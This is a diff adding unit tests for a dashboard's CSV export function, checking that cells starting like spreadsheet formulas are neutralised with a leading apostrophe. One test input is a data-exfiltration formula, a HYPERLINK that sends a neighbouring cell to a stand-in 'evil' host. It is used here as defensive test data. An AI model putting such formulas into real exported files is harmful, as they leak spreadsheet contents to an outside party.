@@ -1,0 +1,23 @@
+import { toCsv } from '../src/modules/dashboard/csv.js';
+
+describe(toCsv.name, () => {
+  const sut = (cells: Record<string, unknown>) => toCsv([cells], Object.keys(cells)).split('\n')[1];
+
+  it('keeps negative numbers numbers a spreadsheet reads as such', () => {
+    expect(sut({ net: -50, balance: 0, score: -12.5 })).toBe('-50,0,-12.5');
+  });
+
+  it('neutralises text that starts like a formula, a minus included', () => {
+    expect(sut({ a: '-50', b: '-2+3', c: '=1+1', d: '+1', e: '@SUM(A1)' })).toBe(
+      "'-50,'-2+3,'=1+1,'+1,'@SUM(A1)",
+    );
+    expect(sut({ tab: '\tcmd', cr: '\rcmd' })).toBe(`'\tcmd,"'\rcmd"`);
+    expect(sut({ quoted: '=HYPERLINK("http://evil/?"&B2,"x")' })).toBe(
+      `"'=HYPERLINK(""http://evil/?""&B2,""x"")"`,
+    );
+  });
+
+  it('leaves other text and empty cells as they are', () => {
+    expect(sut({ a: 'Calls: -5 of 10', b: '', c: 'x=1', d: null })).toBe('Calls: -5 of 10,,x=1,');
+  });
+});
